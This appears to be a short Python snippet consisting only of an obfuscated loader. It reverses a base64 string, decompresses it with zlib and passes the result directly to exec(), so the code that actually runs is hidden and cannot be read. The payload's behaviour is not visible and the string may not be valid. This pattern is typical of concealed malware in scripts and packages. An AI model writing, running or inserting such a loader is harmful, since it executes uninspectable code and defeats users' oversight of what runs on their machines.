import zlib, base64
_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))
exec((_)(b'==wJHQi9dwEW6A5bBVVw6vA3dSz7ZQ1P2YxqXvfcMnKx3cgXQhqUqZ5xoDrk2aP8W9mIq7RfZjZr4zpQ3kE8sJqdXNhYs2Y1uFj1tTLg0LfGTOBkQ6vhJPtNkEfXcA3Zv1ha8rSyPUk7IeBq5g2'))
